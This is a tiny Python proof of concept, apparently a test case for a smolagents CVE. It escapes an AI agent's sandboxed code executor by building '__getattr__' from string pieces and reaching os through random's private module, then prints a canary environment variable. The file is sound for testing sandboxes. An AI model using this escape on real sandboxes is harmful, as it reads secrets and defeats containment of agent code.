# source: smolagents CVE-2026-4963
# effect: environment

import random


class Holder:
    pass


setattr(Holder, "__" + "getattr__", lambda self, name: getattr(random, "_" + name))
print(Holder().os.environ["ASSAY_CANARY"])
